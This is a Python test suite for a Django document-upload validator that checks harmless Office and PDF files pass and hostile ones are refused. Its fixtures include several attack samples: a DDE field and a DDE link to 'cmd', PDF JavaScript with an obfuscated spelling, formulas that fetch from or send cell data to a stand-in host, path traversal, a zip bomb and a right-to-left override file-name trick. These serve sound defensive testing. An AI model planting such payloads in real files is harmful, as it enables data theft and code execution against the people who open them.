"""What people hand in: harmless files of four kinds, known by their content. Everything else is told what to do."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from coe_hub.lib.uploads import MOST_BYTES, MOST_UPLOADED, BoundedUpload, check_document, kind_of
from tests.toolkits.data import word_file

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
SLIDES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/a.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="https://elsewhere.example/a" TargetMode="External"/></Relationships>'
)


def _file(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def _excel(name: str = "list.xlsx") -> SimpleUploadedFile:
    content = io.BytesIO()
    Workbook().save(content)
    return _file(name, content.getvalue())


def _zip(entries: dict[str, str | bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return content.getvalue()


def _word_with(entries: dict[str, str | bytes]) -> SimpleUploadedFile:
    """A sound Word file with further parts."""
    content = io.BytesIO(word_file().read())
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return _file("a.docx", content.getvalue())


def _word(*inside: str) -> str:
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:p xmlns:w="{name}">{"".join(inside)}</w:p>'


def _field(*codes: str) -> list[str]:
    """A field whose code is spread over runs."""
    runs = [f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes]
    return ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>', *runs, '<w:r><w:fldChar w:fldCharType="end"/></w:r>']


def _objects(inside: bytes) -> bytes:
    """A PDF with an object stream."""
    packed = zlib.compress(inside)
    return PDF.replace(b"trailer", b"2 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + packed + b"\ntrailer")


def _sheet(cell: str, entries: dict[str, str] | None = None) -> SimpleUploadedFile:
    """A workbook with one cell, and further parts."""
    content, book = io.BytesIO(), Workbook()
    book.active["A1"] = cell
    book.save(content)
    with zipfile.ZipFile(content, "a") as archive:
        for name, text in (entries or {}).items():
            archive.writestr(name, text)
    return _file("a.xlsx", content.getvalue())


def _with_flag(content: bytes, flag: int) -> bytes:
    """The archive with this flag set on its first entry, at both places that state it."""
    changed = bytearray(content)
    changed[content.index(b"PK\x03\x04") + 6] |= flag
    changed[content.index(b"PK\x01\x02") + 8] |= flag
    return bytes(changed)


def _torn(content: bytes) -> bytes:
    """The archive with one letter of its first entry changed."""
    changed = bytearray(content)
    changed[60] ^= 0xFF
    return bytes(changed)


GOOD: dict[str, Callable[[], SimpleUploadedFile]] = {
    "docx": word_file,
    "xlsx": lambda: _excel("LIST.XLSX"),
    "pptx": lambda: _file("deck.pptx", _zip({"[Content_Types].xml": SLIDES, "ppt/a.xml": "<a/>"})),
    "pdf": lambda: _file("form.pdf", PDF),
}
BAD: dict[str, tuple[Callable[[], SimpleUploadedFile], str]] = {
    "another ending": (lambda: _file("a.docm", b"PK"), "ending"),
    "no ending": (lambda: _file("letterhead", PDF), "ending"),
    "empty": (lambda: _file("a.pdf", b""), "empty"),
    "too large": (lambda: _file("a.pdf", PDF + bytes(MOST_BYTES)), "size"),
    "a program called pdf": (lambda: _file("a.pdf", b"MZ" + bytes(200)), "content"),
    "a PDF called docx": (lambda: _file("a.docx", PDF), "content"),
    "a workbook called docx": (lambda: _excel("a.docx"), "content"),
    "a zip called docx": (lambda: _file("a.docx", _zip({"a.txt": "A"})), "content"),
    "a web page called xlsx": (lambda: _file("a.xlsx", b"<html></html>"), "content"),
    "a PDF torn off": (lambda: _file("a.pdf", PDF[:60]), "broken"),
    "a Word file torn off": (lambda: _file("a.docx", word_file().read()[:-200]), "broken"),
    "a Word file with a changed letter": (lambda: _file("a.docx", _torn(word_file().read())), "broken"),
    "a part that climbs out": (lambda: _word_with({"../../evil.xml": "<a/>"}), "broken"),
    "entities": (
        lambda: _word_with({"word/_rels/b.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "broken",
    ),
    "a PDF with a password": (lambda: _file("a.pdf", PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root")), "password"),
    "an Office file with a password": (lambda: _file("a.docx", OLE), "password"),
    "an archive with a password": (lambda: _file("a.docx", _with_flag(word_file().read(), 1)), "password"),
    "macros": (lambda: _word_with({"word/vbaProject.bin": b"\x00"}), "macros"),
    "macros of Excel 4": (lambda: _word_with({"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "an embedded object": (lambda: _word_with({"word/embeddings/oleObject1.bin": b"\x00"}), "embedded"),
    "a template from elsewhere": (
        lambda: _word_with({"word/_rels/settings.xml.rels": RELATIONS.format(kind="attachedTemplate")}), "external",
    ),
    "a PDF with a script": (lambda: _file("a.pdf", PDF.replace(b"/Root", b"/JavaScript 2 0 R /Root")), "active"),
    "a PDF with a script by another spelling": (
        lambda: _file("a.pdf", PDF.replace(b"/Root", b"/J#61vaScript 2 0 R /Root")), "active",
    ),
    "a PDF with a script in an object stream": (lambda: _file("a.pdf", _objects(b"<</S/JavaScript/JS(a)>>")), "active"),
    "a PDF with objects nobody can look into": (
        lambda: _file("a.pdf", PDF.replace(b"trailer", b"2 0 obj <</Type/Obj#53tm>> stream\nabc\ntrailer")), "active",
    ),
    "a PDF that sends what is typed": (lambda: _file("a.pdf", PDF.replace(b"/Root", b"/SubmitForm 1 /Root")), "active"),
    "a field that starts a program": (
        lambda: _word_with({"word/footer1.xml": _word(*_field("DDE", "AUTO c x"))}), "active",
    ),
    "a picture from elsewhere by a field": (
        lambda: _word_with({"word/a.xml": _word('<w:fldSimple w:instr=\'INCLUDEPICTURE "http://x.example/a"\'/>')}),
        "active",
    ),
    "a page as a part of the text": (
        lambda: _word_with({"word/_rels/b.rels": RELATIONS.format(kind="aFChunk").replace("External", "Internal")}),
        "active",
    ),
    "a workbook with macros in it": (lambda: _word_with({"word/embeddings/a.xlsm": b"PK"}), "embedded"),
    "an object anywhere": (lambda: _word_with({"word/media/picture.png": OLE}), "embedded"),
    "a formula that fetches": (lambda: _sheet('=_xlfn.WEBSERVICE("http://x.example")'), "active"),
    "a formula that sends what is in a cell": (lambda: _sheet('=HYPERLINK("http://x.example/"&A2,"more")'), "active"),
    "a workbook that starts a program": (
        lambda: _sheet("A", {"xl/externalLinks/externalLink1.xml": '<a xmlns="b"><ddeLink ddeService="cmd"/></a>'}),
        "active",
    ),
    "a workbook that asks a database": (
        lambda: _sheet("A", {"xl/connections.xml": '<connections xmlns="b"/>'}), "active",
    ),
    "too many parts": (lambda: _word_with({f"word/{n}.xml": "" for n in range(2_001)}), "bomb"),
    "a bomb": (lambda: _word_with({"word/media/a.png": bytes(20 * 1024 * 1024)}), "bomb"),
    "an invisible letter in its name": (lambda: _file("a\u202efdp.docx", b"PK"), "control_character"),
}  # fmt: skip


@pytest.mark.parametrize("kind", GOOD)
def test_what_is_harmless_is_taken_and_still_whole(kind: str) -> None:
    file = GOOD[kind]()
    check_document(file)
    assert (kind_of(file), file.tell()) == (kind, 0)


@pytest.mark.parametrize("name", BAD)
def test_what_is_not_is_refused_for_its_own_reason(name: str) -> None:
    make, code = BAD[name]
    with pytest.raises(ValidationError) as refused:
        check_document(make())
    assert refused.value.code == code


def test_a_link_that_somebody_follows_is_no_part_from_elsewhere() -> None:
    check_document(_word_with({"word/_rels/b.xml.rels": RELATIONS.format(kind="hyperlink")}))


def test_fields_and_formulas_that_do_no_harm_are_taken() -> None:
    fields = [
        *_field("PAGE"),
        *_field("DATE "),
        *_field("INCLUDEPICTURE picture.png"),
        *_field("MACROBUTTON NoMacro Type"),
    ]
    check_document(_word_with({"word/footer1.xml": _word(*fields)}))
    check_document(_sheet('=HYPERLINK("#Sheet!A2","go")&SUM(A2:A3)'))


def test_a_path_in_a_name_is_refused() -> None:
    file = word_file()
    file._name = "C:\\fakepath\\letterhead.docx"
    with pytest.raises(ValidationError) as refused:
        check_document(file)
    assert refused.value.code == "name"


def test_an_archive_that_understates_what_is_in_it_is_found_out() -> None:
    content = bytearray(_zip({"[Content_Types].xml": bytes(3 * 1024 * 1024)}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = bytes(content).index(mark) + place
        content[start : start + 4] = (10).to_bytes(4, "little")
    with pytest.raises(ValidationError) as refused:
        check_document(_file("a.docx", bytes(content)))
    assert refused.value.code == "broken"


def test_no_more_is_kept_of_an_upload_than_it_takes_to_refuse_it() -> None:
    handler = BoundedUpload()
    assert handler.receive_data_chunk(b"a", MOST_UPLOADED) == b"a"
    assert handler.receive_data_chunk(b"a", MOST_UPLOADED + 1) is None
